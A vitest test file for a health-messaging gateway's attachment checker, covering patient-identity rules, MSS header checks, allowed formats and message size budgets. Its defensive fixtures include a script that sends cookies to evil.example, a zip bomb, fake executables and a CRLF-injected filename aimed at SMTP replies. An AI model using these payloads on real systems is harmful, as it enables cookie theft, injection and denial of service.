import { describe, expect, it } from 'vitest';
import {
  DOC_ROOT,
  MAIN_INS,
  OTHER_INS,
  buildCda,
  buildDetachedSignature,
  buildDicomKos,
  buildPdf,
  buildXdm,
  buildZip,
  patientCx,
  zeros,
  type CdaSpec,
} from '../../../fixtures/builders.js';
import { checkAttachments, judge, readAttachments, type Attachment, type CheckOptions } from '../../../src/documents/check.js';
import { TO_CITIZEN, TO_PROFESSIONAL, fixture } from './support.js';

function zip(name: string, content: Buffer): Attachment {
  return { filename: name, contentType: 'application/zip', content };
}

const presc = (): Attachment => zip('presc.zip', fixture('presc-n1.zip'));
const bio = (): Attachment => zip('bio.zip', fixture('bio-n3.zip'));
const withHeaders = (headers: CheckOptions['headers'], base = TO_CITIZEN): CheckOptions => ({ ...base, headers });

describe('the patient rule', () => {
  it('refuses a document about someone else than the recipient, without naming that INS', async () => {
    const { refusal, documents } = await checkAttachments([zip('IHE_XDM.ZIP', fixture('wrong-patient.zip'))], TO_CITIZEN);
    expect(refusal).toMatchObject({ code: 'WRONG_PATIENT', check: 'RECIPIENT_PATIENT', entry: 'IHE_XDM/SUBSET01/DOC0001.XML' });
    expect(refusal?.message).not.toContain(OTHER_INS);
    expect(documents).toEqual([]);
  });

  it('refuses documents of two patients in one message, across attachments too', async () => {
    const other: CdaSpec = { ins: OTHER_INS, id: { root: DOC_ROOT, extension: 'OTHER-1' } };
    const { refusal, documents } = await checkAttachments([presc(), { filename: 'autre.xml', contentType: 'text/xml', content: buildCda(other) }], TO_PROFESSIONAL);
    expect(refusal).toMatchObject({ code: 'WRONG_PATIENT', check: 'SINGLE_PATIENT', attachment: 'autre.xml' });
    expect(refusal?.message).not.toContain(OTHER_INS);
    // The first refusal comes with the documents found before it.
    expect(documents.map((d) => d.attachment)).toEqual(['presc.zip']);
  });

  it('compares the recipient INS without regard to spaces or case', async () => {
    const { refusal } = await checkAttachments([presc()], { citizenRecipient: true, recipientIns: ` ${MAIN_INS} ` });
    expect(refusal).toBeUndefined();
  });

  it('refuses INVISIBLE_PATIENT for a citizen only', async () => {
    const invisible = zip('invisible.zip', fixture('invisible-patient.zip'));
    const { refusal } = await checkAttachments([invisible], TO_CITIZEN);
    expect(refusal).toMatchObject({ code: 'INVALID_DOCUMENT', check: 'INVISIBLE_PATIENT' });
    expect(refusal?.message).toContain('through its own channel');
    expect((await checkAttachments([invisible], TO_PROFESSIONAL)).refusal).toBeUndefined();
  });

  it('checks every document of an XDM: the second one may be the wrong one', async () => {
    const content = await buildXdm({ documents: [{}, { cda: { id: { root: DOC_ROOT, extension: 'B' }, ins: OTHER_INS } }] });
    const { refusal, documents } = await checkAttachments([zip('two.zip', content)], TO_CITIZEN);
    expect(refusal).toMatchObject({ check: 'RECIPIENT_PATIENT', entry: 'IHE_XDM/SUBSET01/DOC0002.XML' });
    expect(documents).toHaveLength(1);
  });
});

describe('X-MSS-CODECDA and X-MSS-INS', () => {
  it('accepts headers that agree with the documents (codes as a set, spaces trimmed)', async () => {
    const options = withHeaders({ codeCda: ' 11502-2 ,57833-6, 57833-6', ins: 'O' });
    expect((await checkAttachments([presc(), bio()], options)).refusal).toBeUndefined();
    expect((await checkAttachments([], withHeaders({ codeCda: '', ins: 'n' }))).refusal).toBeUndefined();
  });

  it('refuses an X-MSS-CODECDA that disagrees', async () => {
    for (const codeCda of ['57833-6', '57833-6,11502-2,11490-0', '']) {
      const { refusal } = await checkAttachments([presc(), bio()], withHeaders({ codeCda }));
      expect(refusal, codeCda).toMatchObject({ code: 'INVALID_DOCUMENT', check: 'HEADER_CODECDA', attachment: 'presc.zip, bio.zip' });
      expect(refusal?.message).toContain('X-MSS-CODECDA');
    }
  });

  it('refuses an X-MSS-INS that disagrees or is not O/N', async () => {
    expect((await checkAttachments([presc()], withHeaders({ ins: 'N' }))).refusal).toMatchObject({ check: 'HEADER_INS' });
    const image: Attachment = { filename: 'image.png', contentType: 'image/png', content: fixture('image.png') };
    expect((await checkAttachments([image], withHeaders({ ins: 'O' }))).refusal).toMatchObject({ check: 'HEADER_INS' });
    expect((await checkAttachments([presc()], withHeaders({ ins: 'yes' }))).refusal?.message).toContain('must be O or N');
  });

  it('lets the documents speak first: a broken document is refused before the headers are compared', async () => {
    const { refusal } = await checkAttachments([zip('x.zip', fixture('cda-no-author.zip'))], withHeaders({ codeCda: 'nonsense' }));
    expect(refusal?.check).toBe('CDA_AUTHOR');
  });
});

describe('the format rule for citizens', () => {
  const file = (filename: string, content: Buffer | string, contentType = 'application/octet-stream'): Attachment => ({
    filename,
    contentType,
    content: Buffer.isBuffer(content) ? content : Buffer.from(content),
  });

  it('accepts the allowed formats by content, whatever the name says', async () => {
    const allowed = [
      file('scan.jpg', fixture('scan.jpg')),
      file('image.png', fixture('image.png')),
      file('note.txt', fixture('note.txt')),
      file('lettre.doc', '{\\rtf1\\ansi Bonjour}'),
      file('radio.tif', Buffer.from([0x49, 0x49, 0x2a, 0x00, 8, 0, 0, 0])),
      file('vide.txt', Buffer.alloc(0)), // empty text: nothing harmful in it
      file('scan-sans-extension', fixture('scan.jpg')),
      file('latin1.txt', Buffer.from('Résultats normaux\r\n', 'latin1')),
    ];
    expect((await checkAttachments(allowed, TO_CITIZEN)).refusal).toBeUndefined();
  });

  it('refuses other formats, naming the file and what it really is', async () => {
    const cases: [Attachment, string][] = [
      [file('not-a-pdf.pdf', fixture('not-a-pdf.pdf'), 'application/pdf'), 'HTML'],
      [file('setup.pdf', Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1')), 'Windows executable'],
      [file('data.txt', Buffer.from([0x00, 0x01, 0x02, 0x03])), 'unrecognised binary data'],
      [file('message.xml', '<?xml version="1.0"?><note>hello</note>'), 'XML'],
      [file('photo.gif', 'GIF89a\x01\x00\x01\x00'), 'GIF image'],
    ];
    for (const [attachment, kind] of cases) {
      const { refusal } = await checkAttachments([attachment], TO_CITIZEN);
      expect(refusal, attachment.filename).toMatchObject({ code: 'FORBIDDEN_FORMAT', check: 'ATTACHMENT_FORMAT', attachment: attachment.filename });
      expect(refusal?.message).toContain(`${attachment.filename}: the content is ${kind}`);
    }
  });

  it('leaves a professional’s ordinary attachments untouched', async () => {
    const attachments = [file('setup.exe', 'MZ\x90\x00'), file('message.xml', '<?xml version="1.0"?><note/>'), file('page.html', '<html></html>')];
    expect(await checkAttachments(attachments, TO_PROFESSIONAL)).toEqual({ documents: [] });
  });

  it('still checks a zip sent to a professional as an XDM', async () => {
    const { refusal } = await checkAttachments([zip('photos.zip', fixture('xdm-missing-readme.zip'))], TO_PROFESSIONAL);
    expect(refusal?.check).toBe('XDM_README');
  });
});

describe('refusal messages', () => {
  it('escape control characters from names, so an SMTP reply cannot be split', async () => {
    const { refusal } = await checkAttachments([{ filename: 'x\r\n250 OK.pdf', contentType: 'application/pdf', content: Buffer.from('<html></html>') }], TO_CITIZEN);
    expect(refusal?.message).not.toMatch(/[\r\n]/);
    expect(refusal?.message).toContain('x\\u000d\\u000a250 OK.pdf');
  });

  it('describe an attachment without a name by its position and type', async () => {
    const { refusal } = await checkAttachments(
      [presc(), { contentType: 'application/x-msdownload', content: Buffer.from('MZ') }],
      TO_CITIZEN,
    );
    expect(refusal?.attachment).toBe('attachment 2 (application/x-msdownload)');
  });
});

describe('reading once, judging per recipient', () => {
  it('gives each recipient the answer checkAttachments gives', async () => {
    const attachments: Attachment[] = ['presc-n1.zip', 'not-a-pdf.pdf'].map((name) => ({
      filename: name,
      contentType: 'application/octet-stream',
      content: fixture(name),
    }));
    const read = await readAttachments(attachments);
    for (const options of [
      { citizenRecipient: true, recipientIns: MAIN_INS },
      { citizenRecipient: true, recipientIns: OTHER_INS },
      { citizenRecipient: false },
    ]) {
      const once = judge(read, options);
      const whole = await checkAttachments(attachments, options);
      expect(once.refusal?.check).toBe(whole.refusal?.check);
      expect(once.documents.map((d) => d.idKey)).toEqual(whole.documents.map((d) => d.idKey));
    }
    expect(judge(read, { citizenRecipient: false }).refusal).toBeUndefined();
    expect(judge(read, { citizenRecipient: true, recipientIns: MAIN_INS }).refusal?.check).toBe('ATTACHMENT_FORMAT');
    expect(judge(read, { citizenRecipient: true, recipientIns: OTHER_INS }).refusal?.check).toBe('RECIPIENT_PATIENT');
  });
});

describe('an XDM judged entry by entry', () => {
  const pdf = buildPdf({ lines: ['Compte rendu'] });
  const cda = buildCda();
  const listed = {
    pdf: { content: pdf, file: 'DOC0002.PDF', metadata: { mimeType: 'application/pdf' } },
    kos: { content: buildDicomKos(), file: 'DOC0003.DCM', metadata: { mimeType: 'application/dicom' } },
    signature: { content: buildDetachedSignature([{ uniqueId: `${DOC_ROOT}^DOC-2024-0001`, content: cda }]), file: 'DOC0004.XML' },
  };

  it('gives a citizen a CDA with a listed PDF, DICOM KOS and signature; files the CDA only', async () => {
    const content = await buildXdm({ documents: [{}, listed.pdf, listed.kos, listed.signature] });
    const { refusal, documents } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
    expect(refusal).toBeUndefined();
    expect(documents.map((d) => d.entry)).toEqual(['IHE_XDM/SUBSET01/DOC0001.XML']);
  });

  it('accepts an XDM that holds only a PDF: the zip is not refused as a zip', async () => {
    const content = await buildXdm({ documents: [listed.pdf] });
    expect(await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN)).toEqual({ documents: [] });
  });

  it('refuses for a citizen a page, a program or a nested zip carried beside the documents, naming it', async () => {
    const bomb = await buildZip([{ name: 'zeros.bin', content: zeros(64 * 1024 * 1024) }]);
    const extras = [
      { name: 'evil.html', content: Buffer.from('<!DOCTYPE html><html><script>document.location="https://evil.example/"+document.cookie</script></html>') },
      { name: 'setup.exe', content: Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1') },
      { name: 'IHE_XDM/SUBSET01/bomb.zip', content: bomb },
    ];
    for (const extra of extras) {
      const content = await buildXdm({ extra: [extra] });
      const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
      expect(refusal, extra.name).toMatchObject({ code: 'FORBIDDEN_FORMAT', check: 'XDM_ENTRY_FORMAT', entry: extra.name });
      expect(refusal?.message).toContain(`IHE_XDM.ZIP: entry "${extra.name}": a file of the XDM that METADATA.XML does not list is`);
      // A professional may receive any file; the nested zip is never inflated.
      expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_PROFESSIONAL)).refusal, extra.name).toBeUndefined();
    }
  });

  it('lets a citizen receive the allowed files beside the documents', async () => {
    const content = await buildXdm({ extra: [{ name: 'IHE_XDM/SUBSET01/LOGO.PNG', content: fixture('image.png') }, { name: 'LISEZMOI.TXT', content: Buffer.from('Bonjour') }] });
    expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN)).refusal).toBeUndefined();
  });

  it('refuses a listed document of a format a citizen may not receive', async () => {
    const content = await buildXdm({ documents: [{}, { content: Buffer.from('<html><body>page</body></html>'), file: 'DOC0002.HTM', metadata: { mimeType: 'text/html' } }] });
    const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
    expect(refusal).toMatchObject({ code: 'FORBIDDEN_FORMAT', check: 'XDM_ENTRY_FORMAT', entry: 'IHE_XDM/SUBSET01/DOC0002.HTM' });
    expect(refusal?.message).toContain('a document of the XDM is HTML');
  });

  it("refuses a non-CDA document whose metadata names another patient's INS", async () => {
    const other = { ...listed.pdf, metadata: { ...listed.pdf.metadata, patientId: patientCx(OTHER_INS) } };
    const content = await buildXdm({ documents: [{}, other] });
    const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN);
    expect(refusal).toMatchObject({ code: 'WRONG_PATIENT', check: 'RECIPIENT_PATIENT', entry: 'IHE_XDM/SUBSET01/DOC0002.PDF' });
    expect(refusal?.message).not.toContain(OTHER_INS);
    // For professionals too, one patient per message.
    expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_PROFESSIONAL)).refusal).toMatchObject({ check: 'SINGLE_PATIENT' });
  });

  it('keeps a non-CDA document marked INVISIBLE_PATIENT from the citizen', async () => {
    const content = await buildXdm({ documents: [{}, { ...listed.pdf, confidentiality: ['INVISIBLE_PATIENT'] }] });
    expect((await checkAttachments([zip('IHE_XDM.ZIP', content)], TO_CITIZEN)).refusal).toMatchObject({ check: 'INVISIBLE_PATIENT', entry: 'IHE_XDM/SUBSET01/DOC0002.PDF' });
    // Also when its patientId is a local identifier, not an INS.
    const local = { ...listed.pdf, confidentiality: ['INVISIBLE_PATIENT'], metadata: { ...listed.pdf.metadata, patientId: 'IPP-000123^^^&1.2.250.1.999.1.2.3&ISO' } };
    const other = await buildXdm({ documents: [{}, local] });
    expect((await checkAttachments([zip('IHE_XDM.ZIP', other)], TO_CITIZEN)).refusal).toMatchObject({ check: 'INVISIBLE_PATIENT' });
    expect((await checkAttachments([zip('IHE_XDM.ZIP', other)], TO_PROFESSIONAL)).refusal).toBeUndefined();
  });
});

describe('parts the message reader could not decode', () => {
  it('are refused for everyone, naming where they sit', async () => {
    const part: Attachment = {
      filename: 'IHE_XDM.ZIP',
      contentType: 'application/zip',
      content: Buffer.alloc(0),
      within: 'forwarded message "Fwd.eml"',
      unreadable: { check: 'MIME_ENCODING', reason: 'the part\'s Content-Transfer-Encoding "x-gzip64" is not one the gateway can decode' },
    };
    for (const options of [TO_CITIZEN, TO_PROFESSIONAL]) {
      const { refusal } = await checkAttachments([part], options);
      expect(refusal).toMatchObject({ code: 'INVALID_DOCUMENT', check: 'MIME_ENCODING', attachment: 'IHE_XDM.ZIP (in forwarded message "Fwd.eml")' });
      expect(refusal?.message).toContain('cannot be checked');
    }
  });
});

describe('the budget of one message', () => {
  /** An XDM whose padding entries inflate to `entries` MB, each entry within every per-zip bound. */
  const padded = (entries: number) =>
    buildXdm({ extra: Array.from({ length: entries }, (_, i) => ({ name: `IHE_XDM/SUBSET01/PAD${i}.TXT`, content: Buffer.alloc(1024 * 1024, 0x20) })) });

  it('refuses many zips that each keep within the per-zip bounds, before inflating them all', async () => {
    const one = await padded(40); // 40 MB inflated: within the 50 MB of one zip
    expect((await checkAttachments([zip('a.zip', one)], TO_PROFESSIONAL)).refusal).toBeUndefined();
    const many = Array.from({ length: 180 }, (_, i) => zip(`xdm${i}.zip`, one));
    const { refusal } = await checkAttachments(many, TO_PROFESSIONAL);
    expect(refusal).toMatchObject({ code: 'TOO_LARGE', check: 'MESSAGE_INFLATED_BYTES', attachment: 'xdm2.zip' });
    expect(refusal?.message).toContain('inflate to more than the 100 MB allowed in one message');
    // Refused at the third zip, from its directory: two inflated (80 MB), never the 7 GB of all 180.
  });

  it('bounds the entries and the time of the whole message', async () => {
    const xdm = fixture('presc-n1.zip'); // 6 entries, 2 of them folders
    const entries = await checkAttachments([zip('a.zip', xdm), zip('b.zip', xdm)], { ...TO_CITIZEN, limits: { maxMessageEntries: 10 } });
    expect(entries.refusal).toMatchObject({ code: 'TOO_LARGE', check: 'MESSAGE_ENTRIES', attachment: 'b.zip' });
    const slow = await checkAttachments([zip('a.zip', await padded(8))], { ...TO_CITIZEN, limits: { maxMessageCheckMs: 1 } });
    expect(slow.refusal).toMatchObject({ code: 'TOO_LARGE', check: 'MESSAGE_CHECK_TIME' });
  });
});

describe('XDM metadata and the CDA tell the same story', () => {
  it("refuses a metadata type code in another code system than the CDA's (an OID), not a legacy scheme name", async () => {
    const lying = await buildXdm({ documents: [{ cda: {}, metadata: { typeCodeSystem: '1.2.250.1.213.1.1.4.12' } }] });
    const { refusal } = await checkAttachments([zip('IHE_XDM.ZIP', lying)], TO_PROFESSIONAL);
    expect(refusal?.check).toBe('XDM_TYPE_CODE');
    expect(refusal?.message).toMatch(/code system "1\.2\.250\.1\.213\.1\.1\.4\.12" but the CDA uses "2\.16\.840\.1\.113883\.6\.1"/);
    const legacy = await buildXdm({ documents: [{ cda: {}, metadata: { typeCodeSystem: 'LOINC' } }] });
    expect((await checkAttachments([zip('IHE_XDM.ZIP', legacy)], TO_PROFESSIONAL)).refusal).toBeUndefined();
  });
});
